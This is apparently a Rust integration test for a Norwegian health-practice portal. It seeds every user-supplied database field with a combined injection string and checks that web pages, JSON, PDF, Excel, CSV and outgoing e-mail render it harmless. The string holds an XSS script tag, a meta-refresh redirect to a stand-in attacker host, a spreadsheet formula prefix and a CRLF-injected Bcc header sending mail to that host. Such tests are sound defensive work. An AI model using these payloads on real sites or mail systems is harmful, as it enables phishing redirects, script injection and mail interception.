//! A poisonous value wherever somebody outside may put a text, and then every page, letter, document and file: it is shown, and does nothing.

use http::StatusCode;
use leptos_axum::generate_route_list;
use praksisportal::oppstart::app::Ruteliste;
use praksisportal::server::config::Epostvei;
use praksisportal::server::epost::{Postbud, Sender, send_en};
use sqlx::PgPool;

use crate::oppgjor::vedtatt;
use crate::praksis::FALE;
use crate::sak::{bytt_til_ukjent, saken, svar};
use crate::support::{LEGE, Nettleser, Portal, Svar, konfig};
use crate::vedlegg::{PDF, send_fil};

/// Leaves the title, sends the browser away, runs, is a formula, and begins a mail header.
const GIFT: &str =
    "=A1</title><meta http-equiv=\"refresh\" content=\"0;url=//ond.example\"><script>ond()</script>'\"\r\nBcc: tyv@ond.example";

/// Every column with words from outside: typed, or told by a login or a register.
const KOLONNER: [(&str, &str); 9] = [
    ("helseaktor", "fornavn"),
    ("helseaktor", "etternavn"),
    ("godkjenning", "autorisasjon_tekst"),
    ("praksis", "navn"),
    ("praksis", "poststed"),
    ("praksis", "kommune"),
    ("saksbehandler", "navn"),
    ("driftsmelding", "tekst_nb"),
    ("melding", "epj"),
];

async fn forgift(portal: &Portal) {
    for (tabell, kolonne) in KOLONNER {
        sqlx::query(sqlx::AssertSqlSafe(format!("update {tabell} set {kolonne} = $1")))
            .bind(GIFT)
            .execute(&*portal.app.pool)
            .await
            .unwrap_or_else(|e| panic!("{tabell}.{kolonne}: {e}"));
    }
    sqlx::query("update praksis set adresse = array[$1], postnummer = '0655', orgnr = '999999999'")
        .bind(GIFT)
        .execute(&*portal.app.pool)
        .await
        .unwrap();
}

/// Opens an address and holds it up to the light. Returns what it was.
async fn se(n: &Nettleser<'_>, sti: &str) -> Svar {
    let svar = n.get(sti).await;
    assert!(svar.status.as_u16() < 500, "{sti}: {}", svar.status);
    ufarlig(sti, &svar.tekst);
    svar
}

fn ufarlig(hva: &str, tekst: &str) {
    for farlig in ["<script>ond", "<meta http-equiv=\"refresh\"", "=A1</title>"] {
        assert!(!tekst.contains(farlig), "{hva} has {farlig}: {tekst}");
    }
}

async fn sider(portal: &Portal, lege: &Nettleser<'_>, vedtak: &str) -> usize {
    let melding: uuid::Uuid = sqlx::query_scalar("select id from melding limit 1")
        .fetch_one(&*portal.app.pool)
        .await
        .unwrap();
    let mut adresser: Vec<String> = generate_route_list(Ruteliste)
        .iter()
        .map(|r| r.path().to_owned())
        .filter(|sti| !sti.contains('{'))
        .collect();
    adresser.extend(
        [
            "",
            "/konto",
            "/konto/sjekk",
            "/epost",
            "/sted",
            "/slutt",
            "/vedlegg",
            "/ambulerende",
            "/registrert",
        ]
        .map(|s| format!("{FALE}{s}")),
    );
    adresser.extend([
        vedtak.to_owned(),
        format!("/oppgjor/innsendinger/{melding}"),
        format!("/oppgjor/innsendinger/{melding}/kvittering"),
    ]);
    let mut sett = 0;
    for sti in &adresser {
        sett += usize::from(se(lege, sti).await.tekst.contains("&lt;script&gt;ond()"));
    }
    sett
}

#[sqlx::test]
async fn a_poisonous_value_does_nothing_anywhere(pool: PgPool) {
    let portal = Portal::ny(pool).await;
    let vedtak = vedtatt(&portal).await;
    let lege = portal.logg_inn(LEGE).await;
    sqlx::query("update helseaktor set epost = 'meg@example.no', epost_bekreftet = now(), telefon = '+4790012345'")
        .execute(&*portal.app.pool)
        .await
        .unwrap();
    sqlx::raw_sql("insert into driftsmelding (slag, tekst_nb, tekst_nn, fra, til) values ('info', 'x', 'x', '2020-01-01', '2030-01-01')")
        .execute(&*portal.app.pool)
        .await
        .unwrap();
    send_fil(
        &lege,
        "praksis/1004326178",
        "fastlegeavtale",
        Some(("=A1<script>ond()</script>.pdf", PDF)),
        true,
    )
    .await;
    bytt_til_ukjent(&portal, &lege).await;
    let sak = saken(&portal, "konto_avvik").await;
    let ravn = portal.logg_inn_saksbehandler("Ryddig Ravn").await;
    assert_eq!(svar(&ravn, &sak, "godkjent", GIFT).await.status, StatusCode::SEE_OTHER);
    // What is paid is in the overview and its files.
    sqlx::query("update vedtak set utbetalt = '2026-01-05T10:00Z'")
        .execute(&*portal.app.pool)
        .await
        .unwrap();
    forgift(&portal).await;

    let sett = sider(&portal, &lege, &vedtak).await;
    assert!(sett > 15, "shown as what it is on {sett} pages");
    for sti in ["/", "/saker", &sak, "/drift"] {
        assert!(se(&ravn, sti).await.tekst.contains("&lt;script&gt;ond()"), "{sti}");
    }
    for sti in [
        "/behandlere",
        "/behandlere.json",
        "/fhir/R4/Practitioner?_format=json",
        "/regler.json?sok=%3Cscript%3Eond()%3C/script%3E",
    ] {
        let svar = portal.anonym().get(sti).await;
        assert_eq!(svar.status, StatusCode::OK, "{sti}");
        if svar.tekst.starts_with("<!DOCTYPE") {
            ufarlig(sti, &svar.tekst);
        } else {
            svar.json();
        }
    }

    for (slag, hode) in [("pdf", "%PDF-"), ("excel", "PK")] {
        let fil = lege.get(&format!("/oppgjor/utbetalingsoversikt/{slag}")).await;
        assert!(fil.status == StatusCode::OK && fil.tekst.starts_with(hode), "{slag}");
    }
    assert!(lege.get(&format!("{vedtak}/pdf")).await.tekst.starts_with("%PDF-"));
    // A spreadsheet takes what begins so for a formula.
    let csv = lege.get("/oppgjor/utbetalingsoversikt/csv").await.tekst;
    assert!(csv.contains("A1</title>"), "{csv}");
    for celle in csv.split(['\n', ';']) {
        assert!(!celle.trim_start_matches('"').starts_with('='), "{celle}");
    }
    for slag in ["json", "pdf"] {
        let fil = lege
            .skjema(&format!("/praksisinformasjon/helseaktor/mine-opplysninger/{slag}"), &[])
            .await;
        assert_eq!(fil.status, StatusCode::OK);
        match slag {
            "json" => assert!(fil.json().to_string().contains("ond()")),
            _ => assert!(fil.tekst.starts_with("%PDF-")),
        }
    }
    brev(&portal, &lege).await;
}

/// The letters as they leave: head and body.
async fn brev(portal: &Portal, lege: &Nettleser<'_>) {
    sqlx::query("delete from epost_ut").execute(&*portal.app.pool).await.unwrap();
    let slutt = [
        ("id", "1004326178"),
        ("epost1", "ny@example.no"),
        ("versjon", "2"),
        ("nokkel", &crate::support::nokkel()),
    ];
    assert_eq!(lege.kall("/api/praksis/epost", &slutt).await.status, StatusCode::OK);
    crate::sak::bytt(portal, lege, "86011117947").await;
    let mappe = std::env::temp_dir().join(format!("gift-{}", uuid::Uuid::new_v4()));
    let mut konfig = konfig();
    konfig.epost = Epostvei::Mappe(mappe.clone());
    let mut bud = Postbud::ny(Sender::ny(&konfig).unwrap());
    // A letter whose subject is a name would be this.
    sqlx::query("insert into epost_ut select gen_random_uuid(), helseaktor_id, slag, til_kryptert, $1, tekst, opprettet, neste_forsok from epost_ut limit 1")
        .bind(GIFT)
        .execute(&*portal.app.pool)
        .await
        .unwrap();
    while send_en(&portal.app, &mut bud).await.unwrap() {}
    let filer: Vec<String> = std::fs::read_dir(&mappe)
        .unwrap()
        .map(|f| f.unwrap().path())
        .filter(|f| f.extension().is_some_and(|e| e == "eml"))
        .map(|f| std::fs::read_to_string(f).unwrap())
        .collect();
    assert!(filer.len() >= 2, "{filer:?}");
    for fil in &filer {
        let (hode, _) = fil.split_once("\r\n\r\n").unwrap();
        for linje in hode.lines() {
            assert!(!linje.to_lowercase().starts_with("bcc"), "{hode}");
        }
        let navn: Vec<&str> = hode
            .lines()
            .filter(|l| !l.starts_with([' ', '\t']))
            .filter_map(|l| l.split(':').next())
            .collect();
        assert!(
            navn.iter().all(|n| [
                "From",
                "To",
                "Message-ID",
                "Date",
                "Subject",
                "Content-Type",
                "Content-Transfer-Encoding",
                "MIME-Version"
            ]
            .contains(n)),
            "{navn:?}"
        );
    }
    std::fs::remove_dir_all(mappe).unwrap();
}
